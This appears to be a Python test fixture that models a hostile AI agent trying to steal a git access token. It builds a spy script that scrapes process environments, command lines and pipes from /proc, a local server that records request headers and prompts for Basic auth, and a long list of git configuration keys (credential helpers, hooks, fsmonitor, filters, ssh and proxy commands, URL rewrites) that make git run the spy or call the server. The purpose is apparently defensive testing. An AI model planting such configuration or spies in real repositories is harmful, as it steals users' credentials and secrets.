"""What a hostile agent brings along: a spy that git is made to run, and a server that git is made to call.

<tmp_path>/evil/
    spy        writes down all that it can see, wherever git starts it
    evidence/  what the spies saw, a file each
"""

import base64
import json
import shlex
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

from tests.scenarios.stage import Stage

_SPY = """\
#!{python} -IS
# spy NAME [pass|stay] ...: leaves what it can see of every process of the run; `pass` copies stdin to stdout,
# `stay` goes on looking from a session of its own while the run goes on.
import os, sys, time

RUN = {run!r}.encode()

def read(path):
    try:
        with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb", 0) as file:
            return file.read(1 << 16) or b""
    except OSError:
        return b""

def link(path):
    try:
        return os.readlink(path)
    except OSError:
        return ""

def descriptors(pid):
    try:
        return os.listdir(f"/proc/{{pid}}/fd")
    except OSError:
        return []

def look(pipes):
    seen, alive = [], False
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        environ, command = read(f"/proc/{{pid}}/environ"), read(f"/proc/{{pid}}/cmdline")
        seen += [environ, command]
        if RUN not in environ:
            continue
        alive = alive or b"--agent" in command
        if pipes:
            own = [f"/proc/{{pid}}/fd/{{number}}" for number in descriptors(pid)]
            seen += [read(path) for path in own if link(path).startswith("pipe:")]
    return b"\\0".join(seen), alive

name, mode = sys.argv[1], (sys.argv[2:] or [""])[0]
with open(f"{evidence}/{{name}}-{{os.getpid()}}-{{time.monotonic_ns()}}", "wb", 0) as out:
    out.write("\\0".join(sys.argv).encode() + b"\\0" + read("/proc/self/environ"))
    if mode == "pass" or name == "helper":
        given = sys.stdin.buffer.read()
        out.write(given)
        if mode == "pass":
            sys.stdout.buffer.write(given)
            sys.stdout.flush()
    out.write(look(pipes=False)[0])
    if mode in ("pass", "stay") and os.fork() == 0:
        os.setsid()
        null = os.open("/dev/null", os.O_RDWR)
        for number in range(3):
            os.dup2(null, number)
        alive = True
        while alive:
            seen, alive = look(pipes=True)
            if {canary!r}.encode() in seen:
                out.write(seen)
            time.sleep(0.001)
"""

HOOKS = (
    *("applypatch-msg", "pre-commit", "prepare-commit-msg", "commit-msg", "post-commit", "post-checkout", "post-merge"),
    *("pre-push", "pre-rebase", "post-rewrite", "post-index-change", "reference-transaction", "pre-auto-gc"),
)


class Evil:
    """The spy and the server of one scenario. `canary` is the token that they are after."""

    def __init__(self, stage: Stage, canary: str, url: str) -> None:
        self.stage = stage
        self.canary = canary
        self.url = url
        self.requests: list[str] = []
        self.directory = stage.root / "evil"
        self.evidence = self.directory / "evidence"
        self.evidence.mkdir(parents=True)
        self.spy = self.directory / "spy"
        text = _SPY.format(python=sys.executable, run=str(stage.state), evidence=self.evidence, canary=canary)
        self.spy.write_text(text)
        self.spy.chmod(0o755)

    def command(self, name: str, mode: str = "") -> str:
        """Return the shell command that runs the spy under a name."""
        return f"{shlex.quote(str(self.spy))} {name} {mode}".strip()

    def hooks(self) -> Path:
        """Make a directory of hooks, all of them spies."""
        directory = self.directory / "hooks"
        directory.mkdir(exist_ok=True)
        for name in HOOKS:
            (directory / name).write_text(f'#!/bin/sh\n{self.command(f"hook-{name}")} "$@"\n')
            (directory / name).chmod(0o755)
        return directory

    def settings(self) -> dict[str, str]:
        """Return a git configuration that calls spy and server at every opportunity."""
        hub, spy = self.stage.hub.url, self.command
        included = self.directory / "included"
        included.write_text(f'[credential]\n\thelper = "!{spy("helper")}"\n')
        return {
            f"url.{self.url}/.insteadOf": f"{hub}/",
            f"url.{self.url}/.pushInsteadOf": f"{hub}/",
            "credential.helper": f"!{spy('helper')}",
            f"credential.{hub}.helper": f"!{spy('helper')}",
            "core.askPass": str(self.spy),
            "core.fsmonitor": spy("fsmonitor"),
            "core.hooksPath": str(self.hooks()),
            "core.sshCommand": spy("ssh"),
            "core.gitProxy": spy("proxy"),
            "core.alternateRefsCommand": spy("alternates"),
            "core.editor": spy("editor"),
            "core.pager": spy("pager"),
            "sequence.editor": spy("editor"),
            "diff.external": spy("diff"),
            "diff.spy.textconv": spy("textconv"),
            "diff.spy.command": spy("diff"),
            "merge.spy.driver": spy("merge"),
            "gpg.program": str(self.spy),
            "commit.gpgSign": "true",
            "push.gpgSign": "if-asked",
            "filter.spy.clean": spy("clean", "pass"),
            "filter.spy.smudge": spy("smudge", "pass"),
            "filter.process.process": spy("process"),
            "http.proxy": self.url,
            "http.extraHeader": "X-Spy: here",
            f"http.{hub}/.proxy": self.url,
            "remote.origin.pushurl": f"{self.url}/acme/widget.git",
            "remote.origin.uploadpack": spy("uploadpack"),
            "remote.origin.receivepack": spy("receivepack"),
            "alias.push": f"!{spy('alias')}",
            "protocol.allow": "always",
            "protocol.ext.allow": "always",
            "trace2.eventTarget": str(self.evidence / "trace2"),
            "trace2.configParams": "*",
            "trace2.envVars": "*",
            "include.path": str(included),
        }

    def configure(self, scope: str) -> str:
        """Return the shell commands with which an agent writes that configuration."""
        lines = [f"git config {scope} {shlex.quote(key)} {shlex.quote(text)}" for key, text in self.settings().items()]
        attributes = "*.txt filter=spy diff=spy merge=spy\\n*.md filter=process\\n"
        return "\n".join([*lines, f"printf '{attributes}' > .gitattributes\n"])

    def seen(self) -> dict[str, bytes]:
        """Return what every spy saw, by file name."""
        return {path.name: path.read_bytes() for path in self.evidence.iterdir()}

    def spies(self) -> set[str]:
        """Return the names of the spies that ran."""
        return {name.split("-")[0] for name in self.seen()}


def forms(token: str) -> list[bytes]:
    """Return a token as it may show up."""
    raw = token.encode()
    basic = base64.b64encode(b"x-access-token:" + raw).rstrip(b"=")[:-1]
    written = [quote(token, safe=""), json.dumps(token)[1:-1], base64.b64encode(raw).decode().rstrip("=")[:-1]]
    return [raw, basic, *(text.encode() for text in written)]


@contextmanager
def evil(stage: Stage, canary: str) -> Iterator[Evil]:
    """Serve an address that writes down whatever it is asked, headers included, and asks for a password."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(f"{self.requestline}\n{self.headers}")
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="GitHub"')
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_CONNECT = do_GET  # noqa: N815 - the base class looks for these names

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        made = Evil(stage, canary, f"http://127.0.0.1:{server.server_port}")
        made.requests = asked
        try:
            yield made
        finally:
            server.shutdown()
            thread.join()
